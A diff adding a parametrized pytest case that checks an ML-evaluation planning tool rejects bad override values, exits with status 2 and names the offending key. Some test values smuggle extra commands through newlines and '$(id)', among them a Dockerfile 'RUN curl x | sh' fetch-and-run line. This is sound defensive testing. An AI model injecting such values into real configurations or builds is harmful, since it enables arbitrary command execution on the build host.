@@ -162,3 +162,21 @@ def test_a_run_is_evaluated_with_its_own_overrides_and_its_export_on_one_node(tm
     (container,) = json.loads(outcome.stdout)["containers"]
     mounts = {mount["target"]: mount["source"] for mount in container["mounts"]}
     assert mounts["/opt/ml/input/data/pretrained"] == str(run_dir / "model")  # the export, as the channel
+
+
+@pytest.mark.parametrize(
+    ("override", "key"),
+    [
+        ("eval.lm_eval='0.4.13\nRUN curl x | sh'", "eval.lm_eval"),
+        ("eval.tasks=['dockyard_mc\nRUN id']", "eval.tasks"),
+        ("eval.include_path='/nowhere\n$(id)'", "eval.include_path"),
+        ("eval.limit=-1", "eval.limit"),
+        ("eval.limit=2.5", "eval.limit"),
+        ("eval.batch_size=0", "eval.batch_size"),
+    ],
+)
+def test_a_hostile_or_wrong_eval_value_is_one_line_naming_its_key(model, tasks, tmp_path, override, key):
+    args = ["plan", "model=hf", f"model.path={model}", "eval.tasks=[dockyard_mc]", f"eval.include_path={tasks}"]
+    outcome = invoke([*args, override], tmp_path)
+    assert outcome.status == 2 and outcome.error_keys == [key], outcome.stderr
+    assert "\nRUN" not in outcome.stderr.strip() and not outcome.created
